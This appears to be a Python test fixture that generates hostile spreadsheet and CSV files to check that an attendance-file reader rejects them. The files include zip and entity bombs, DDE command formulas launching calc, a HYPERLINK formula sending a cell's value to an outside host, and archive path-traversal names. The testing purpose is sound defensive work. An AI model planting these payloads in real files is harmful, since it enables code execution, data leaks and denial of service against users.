"""Hostile files, small on disk: each made when it is asked for, none kept.

In: a folder. Out: the path of the file of that name.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import openpyxl

from tests.ingest.read.samples import HEADER, ROW

SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_PIECE = 1 << 20
_SHEET = "xl/worksheets/sheet1.xml"


def workbook() -> bytes:
    """An honest workbook of attendance."""
    book = openpyxl.Workbook()
    for row in (HEADER, *[ROW] * 20):
        book.worksheets[0].append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv(rows: int) -> bytes:
    """An honest csv of attendance."""
    return "".join(",".join(row) + "\n" for row in (HEADER, *[ROW] * rows)).encode()


def with_parts(parts: dict[str, Iterable[bytes]]) -> bytes:
    """The honest workbook with parts replaced or added; each is written piece by piece."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for entry in old.infolist():
            if entry.filename not in parts:
                new.writestr(entry.filename, old.read(entry))
        for name, pieces in parts.items():
            with new.open(name, "w", force_zip64=True) as part:
                for piece in pieces:
                    part.write(piece)
    return buffer.getvalue()


def sheet(*cells: bytes) -> list[bytes]:
    """The pieces of a sheet."""
    return [f'<worksheet xmlns="{SPACE}"><sheetData>'.encode(), *cells, b"</sheetData></worksheet>"]


def _header_cells() -> bytes:
    cells = (
        f'<c r="{chr(65 + at)}1" t="inlineStr"><is><t>{name}</t></is></c>' for at, name in enumerate(HEADER)
    )
    return f'<row r="1">{"".join(cells)}</row>'.encode()


def _laughs() -> bytes:
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10 if number else b"ha" * 10)
        for number in range(12)
    )
    body = b"".join(sheet(b'<row r="1"><c r="A1" t="str"><v>&l11;</v></c></row>'))
    return b"<!DOCTYPE x [" + entities + b"]>" + body


def _shared_strings(megabytes: int) -> list[bytes]:
    """One text of that many megabytes, within what an archive may unpack to."""
    return [f'<sst xmlns="{SPACE}"><si><t>'.encode(), *[b"a" * _PIECE] * megabytes, b"</t></si></sst>"]


def _uses_first_string() -> list[bytes]:
    return sheet(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>')


def _styles(levels: int) -> list[bytes]:
    return [f'<styleSheet xmlns="{SPACE}">'.encode(), *[b"<a>" * 10_000] * (levels // 10_000)]


def _many_styles(count: int) -> list[bytes]:
    formats = b"".join(b'<numFmt numFmtId="%d" formatCode="0"/>' % (200 + at) for at in range(1000))
    xfs = b'<xf numFmtId="200" fontId="0"/>' * 1000
    return [
        f'<styleSheet xmlns="{SPACE}"><numFmts>'.encode(),
        *[formats] * (count // 1000),
        b"</numFmts><cellXfs>",
        *[xfs] * (count // 1000),
        b"</cellXfs></styleSheet>",
    ]


def _link(body: str) -> list[bytes]:
    return [f'<externalLink xmlns="{SPACE}">{body}</externalLink>'.encode()]


def _formula(formula: str) -> list[bytes]:
    return sheet(_header_cells(), f'<row r="2"><c r="A2"><f>{formula}</f><v>1</v></c></row>'.encode())


HOSTILE: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "encrypted": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), {"encrypted_file"}),
    "macro": (lambda: with_parts({"xl/vbaProject.bin": [b"x"]}), {"wrong_kind"}),
    "macro_sheet": (lambda: with_parts({"xl/macrosheets/sheet1.xml": [b"<x/>"]}), {"wrong_kind"}),
    "truncated": (lambda: workbook()[:-300], {"damaged_file"}),
    "empty": (lambda: b"", {"empty_file"}),
    "renamed_image": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), {"wrong_kind"}),
    "not_a_spreadsheet": (lambda: bytes(range(256)) * 10, {"unreadable"}),
    "zip_bomb": (lambda: with_parts({_SHEET: [b" " * _PIECE] * 1100}), {"oversized_file"}),
    "zip_bomb_within_what_is_stated": (
        lambda: with_parts({"xl/sharedStrings.xml": _shared_strings(700), _SHEET: _uses_first_string()}),
        {"too_expensive_to_read"},
    ),
    "entity_bomb": (lambda: with_parts({_SHEET: [_laughs()]}), {"damaged_file", "no_header", "empty_file"}),
    "ten_million_empty_rows": (
        lambda: with_parts({_SHEET: sheet(_header_cells(), *[b"<row/>" * 100_000] * 100)}),
        {"oversized_file", "no_data_rows"},
    ),
    "ten_million_empty_records": (
        lambda: csv(0) + b",,,,,,,,,\n" * 10_000_000,
        {"too_expensive_to_read", "no_data_rows"},
    ),
    "ten_thousand_columns": (lambda: csv(0).rstrip() + b",x" * 10_000 + b"\n", {"too_many_columns"}),
    "ten_thousand_columns_of_a_sheet": (
        lambda: with_parts({_SHEET: sheet(b'<row r="1"><c r="NTP1"><v>1</v></c></row>')}),
        {"too_many_columns"},
    ),
    "deep_styles": (lambda: with_parts({"xl/styles.xml": _styles(3_000_000)}), {"damaged_file"}),
    "link_to_a_program": (
        lambda: with_parts(
            {"xl/externalLinks/externalLink1.xml": _link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')}
        ),
        {"link_to_a_program"},
    ),
    "formula_that_starts_a_program": (
        lambda: with_parts({_SHEET: _formula("cmd|'/c calc'!A1")}),
        {"link_to_a_program"},
    ),
    "command_in_a_csv": (
        lambda: csv(3).replace(b",1,", b",=cmd|'/c calc'!A1,"),
        {"command_in_cell"},
    ),
    "fetching_formula_in_a_csv": (
        lambda: csv(3).replace(b",1,", b',"=HYPERLINK(""http://a.example?x="" & A1)",'),
        {"command_in_cell"},
    ),
    "path_upwards": (lambda: with_parts({"../../etc/cron.d/x": [b"x"]}), {"path_names_in_archive"}),
    "path_from_the_root": (lambda: with_parts({"/etc/x": [b"x"]}), {"path_names_in_archive"}),
    "path_of_windows": (lambda: with_parts({"xl\\..\\..\\x": [b"x"]}), {"path_names_in_archive"}),
    "path_with_a_drive": (lambda: with_parts({"C:\\x.exe": [b"x"]}), {"path_names_in_archive"}),
}
"""Name → how it is made, and the codes of which the reading must hold one."""

HARMLESS: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "ten_million_empty_lines": (lambda: csv(1) + b"\n" * 10_000_000, set()),
    "external_links": (
        lambda: with_parts({"xl/externalLinks/externalLink1.xml": _link('<externalBook r:id="rId1"/>')}),
        {"external_links"},
    ),
    "many_styles": (lambda: with_parts({"xl/styles.xml": _many_styles(200_000)}), set()),
    "formula_as_text": (lambda: csv(3).replace(b",1,", b",=SUM(A1:A2),"), {"formula_as_text"}),
}
"""The same for files that are read all the same; empty where nothing need be said."""


def write(folder: Path, name: str) -> Path:
    """The hostile or harmless file of that name."""
    make, _ = (HOSTILE | HARMLESS)[name]
    path = folder / name
    path.write_bytes(make())
    return path
